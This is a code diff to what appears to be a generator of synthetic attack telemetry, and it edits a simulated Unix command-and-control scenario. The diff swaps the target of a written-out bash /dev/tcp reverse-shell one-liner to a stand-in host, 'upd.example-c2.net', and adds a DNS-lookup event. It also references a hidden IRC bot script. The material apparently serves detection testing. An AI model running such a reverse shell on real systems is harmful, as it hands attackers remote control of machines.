@@ -841,8 +841,11 @@ def x8_unix_scripted_app_c2(rec, t0):
                                           "resp_bytes": rec.rng.randint(300, 500)})
     shell_host = Host("lnx32.corp.example", "10.20.2.52", "linux")
     shell = rec.linux_exec(shell_host, t0 + 30, "/usr/bin/bash",
-                           ["bash", "-c", "exec 5<>/dev/tcp/203.0.113.90/443; cat <&5 | bash >&5"],
+                           ["bash", "-c", "exec 5<>/dev/tcp/upd.example-c2.net/443; cat <&5 | bash >&5"],
                            uid=33, auid=4294967295)
+    # bash resolves the redirection's host name itself (glibc connects its UDP socket to the
+    # resolver), then connects to the handler
+    rec.linux_connect(shell_host, t0 + 30.005, shell, RESOLVER, 53)
     rec.linux_connect(shell_host, t0 + 30.01, shell, "203.0.113.90", 443)
     bot = rec.linux_exec(shell_host, t0 + 90, "/usr/bin/perl", ["perl", "/var/tmp/.ircd/bot.pl"],
                          uid=33, auid=4294967295)
